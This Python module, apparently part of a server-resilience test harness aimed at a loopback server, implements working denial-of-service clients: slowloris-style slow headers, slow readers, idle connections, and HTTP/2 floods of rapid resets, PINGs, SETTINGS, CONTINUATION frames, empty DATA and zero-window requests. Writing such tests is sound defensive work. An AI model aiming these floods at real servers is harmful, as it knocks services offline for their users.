"""Clients that wear a server out: slow ones, idle ones, and floods over HTTP/2. Not what others notice of them."""

import asyncio
import collections
import os
import socket
import struct
import time

# Connections of one address of loopback: fewer than one client may have.
OF_ONE_ADDRESS = 250
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
END_STREAM, END_HEADERS = 1, 4
# Bytes that a flood may have unsent: then the server does not read it.
UNSENT = 1 << 18


def source(number):
    """The address of a connection."""
    number //= OF_ONE_ADDRESS
    return f"127.1.{number >> 8}.{number & 255 or 1}"


class Connection(asyncio.Protocol):
    """One connection. A crowd opens it again when the server has ended it."""

    def __init__(self, crowd):
        self.crowd, self.transport, self.received = crowd, None, 0

    def connection_made(self, transport):
        self.transport = transport
        self.crowd.counts["opened"] += 1
        self.begin()

    def begin(self):
        """Sends what a connection begins with."""

    def tick(self):
        """Called once a second, each connection at an instant of its own."""

    def data_received(self, data):
        self.received += len(data)

    def connection_lost(self, _error):
        self.crowd.counts["ended"] += 1
        self.crowd.open.discard(self)
        self.crowd.missing += 1


class SlowHead(Connection):
    """A head that never ends, a few bytes a second."""

    def begin(self):
        self.transport.write(b"GET /api/listings.json HTTP/1.1\r\nHost: slow\r\n")

    def tick(self):
        self.transport.write(b"x: y\r\n")


class SlowReader(Connection):
    """Many requests for a long answer, of which a little is read each second."""

    def begin(self):
        request = b"GET /api/listings.json?per_page=100 HTTP/1.1\r\nHost: slow\r\n\r\n"
        self.transport.write(request * 20)
        self.transport.pause_reading()

    def tick(self):
        self.transport.resume_reading()

    def data_received(self, data):
        super().data_received(data)
        self.transport.pause_reading()


class Idle(Connection):
    """One request, and then nothing."""

    def begin(self):
        self.transport.write(b"GET /api/listings.json?per_page=1 HTTP/1.1\r\nHost: idle\r\n\r\n")


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request(stream, flags=END_STREAM | END_HEADERS, path=b"/api/listings.json?per_page=100"):
    literal = lambda index, text: bytes([index, len(text)]) + text
    return frame(1, flags, stream, b"\x82\x86" + literal(1, b"flood") + literal(4, path))


class Flood(Connection):
    """HTTP/2 frames without end. `batch` gives the next ones, from a number that counts up."""

    settings = b""

    def begin(self):
        self.number = 0
        self.transport.write(PREFACE + frame(4, 0, 0, self.settings) + self.first())

    def first(self):
        return b""

    def send(self, frames):
        if self.transport.is_closing() or self.transport.get_write_buffer_size() > UNSENT:
            self.crowd.counts["held up"] += 1
            return
        batch = b"".join(self.next(self.number + nth) for nth in range(frames))
        self.number += frames
        self.crowd.counts["frames"] += frames
        self.transport.write(batch)


class Resets(Flood):
    def next(self, number):
        return request(2 * number + 1) + frame(3, 0, 2 * number + 1, struct.pack(">I", 8))


class Pings(Flood):
    def next(self, _number):
        return frame(6, 0, 0, b"8 bytes.")


class Settings(Flood):
    def next(self, _number):
        return frame(4, 0, 0, struct.pack(">HI", 3, 100))


class Continuations(Flood):
    def first(self):
        return request(1, END_STREAM)

    def next(self, _number):
        return frame(9, 0, 1)


class EmptyData(Flood):
    def first(self):
        return request(1, END_HEADERS)

    def next(self, _number):
        return frame(0, 0, 1)


class ZeroWindow(Flood):
    """Requests whose answers may not be sent: SETTINGS_INITIAL_WINDOW_SIZE is 0. The server has 100 of them at a time,
    and gets new ones when it has given those up."""

    settings = struct.pack(">HI", 4, 0)

    def begin(self):
        super().begin()
        self.asked = time.monotonic()

    def send(self, frames):
        if self.number == 0 or time.monotonic() - self.asked > 11:
            self.asked = time.monotonic()
            super().send(100)

    def next(self, number):
        return request(2 * number + 1)


SLOW = {"slow heads": SlowHead, "slow readers": SlowReader, "idle": Idle}
FLOODS = {
    "rapid resets": Resets,
    "pings": Pings,
    "settings": Settings,
    "continuations": Continuations,
    "empty data": EmptyData,
    "window zero": ZeroWindow,
}


class Crowd:
    """So many connections of one kind, open all the time."""

    def __init__(self, kind, port, size):
        self.kind, self.port = kind, port
        self.open, self.missing, self.number = set(), size, 0
        self.counts = collections.Counter()

    async def connect(self):
        self.number += 1
        sock = socket.socket()
        sock.setblocking(False)
        if self.kind is SlowReader:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        loop = asyncio.get_running_loop()
        try:
            sock.bind((source(self.number % 10000), 0))
            await loop.sock_connect(sock, ("127.0.0.1", self.port))
            _, made = await loop.create_connection(lambda: self.kind(self), sock=sock)
            self.open.add(made)
        except OSError:
            sock.close()
            self.counts["not connected"] += 1
            self.missing += 1

    async def fill(self):
        """Opens what is missing, some at a time."""
        while self.missing > 0:
            some = min(self.missing, 100)
            self.missing -= some
            await asyncio.gather(*(self.connect() for _ in range(some)))
            if self.counts["not connected"] > 1000:
                return

    async def run(self, seconds, frames, filled):
        """`frames`: a second, over all connections of a flood."""
        await self.fill()
        filled.set()
        began = last = time.monotonic()
        due, turns = 0.0, iter(())
        while (now := time.monotonic()) < began + seconds:
            # What fell due since the last look: strangers do not act in step.
            if issubclass(self.kind, Flood):
                for connection in list(self.open):
                    connection.send(max(1, int(frames * (now - last) / max(1, len(self.open)))))
            else:
                due += len(self.open) * (now - last)
                while due >= 1 and self.open:
                    due -= 1
                    connection = next(turns, None)
                    if connection is None:
                        turns = iter(list(self.open))
                    elif connection in self.open:
                        connection.tick()
            last = now
            await self.fill()
            await asyncio.sleep(0.005)
        self.counts["open at the end"] = len(self.open)


def attack(kind, port, size, seconds, frames, core, filled, answers):
    """A process of hostile clients."""
    os.sched_setaffinity(0, {core})
    # Whoever measures gets the core at once.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    crowd = Crowd({**SLOW, **FLOODS}[kind], port, size)
    asyncio.run(crowd.run(seconds, frames, filled))
    answers.put(dict(crowd.counts))
